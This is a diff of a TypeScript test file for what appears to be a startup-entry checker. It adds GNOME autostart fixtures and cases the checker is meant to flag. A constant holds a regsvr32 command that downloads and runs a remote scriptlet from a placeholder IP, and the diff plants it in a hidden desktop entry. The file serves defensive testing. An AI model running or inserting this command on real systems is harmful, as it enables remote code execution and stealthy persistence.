@@ -21,6 +21,12 @@ const autostart = (system: Record<string, string>, own: Record<string, string> =
   });
 const many = (count: number) =>
   Object.fromEntries(Array.from({ length: count }, (_, index) => [`item-${index}.desktop`, 'Exec=x']));
+const desktop = Object.fromEntries(
+  Object.keys(many(30)).map((name) => [
+    `org.gnome.SettingsDaemon.${name}`,
+    '[Desktop Entry]\nExec=/usr/libexec/gsd\nOnlyShowIn=GNOME;\nNoDisplay=true\n',
+  ]),
+);
 const commands = (...rows: [string, string][]) => onWindows(JSON.stringify(rows.map(([Name, Command]) => ({ Name, Command }))));
 const EVIL = 'regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll';
 verdictTable(appStartup, [
@@ -28,6 +34,8 @@ verdictTable(appStartup, [
   ['fifteen', autostart(many(15)), 'pass'],
   ['sixteen', autostart(many(16)), 'warn'],
   ['sixteen, one of them taken out', autostart(many(16), { 'item-3.desktop': '[Desktop Entry]\nHidden=true\n' }), 'pass'],
+  ['parts of the desktop beside fifteen', autostart({ ...desktop, ...many(15) }), 'pass'],
+  ['one that hides and fetches programs', autostart({ 'x.desktop': `Exec=${EVIL}\nNoDisplay=true\n` }), 'fail'],
   ['other files', autostart({ ...many(15), 'README.txt': 'x' }), 'pass'],
   ['Windows', commands(['OneDrive', '"C:\\OneDrive.exe" /background']), 'pass'],
   ['Windows, one that fetches programs', commands(['OneDrive', 'x'], ['Updater', EVIL]), 'fail'],
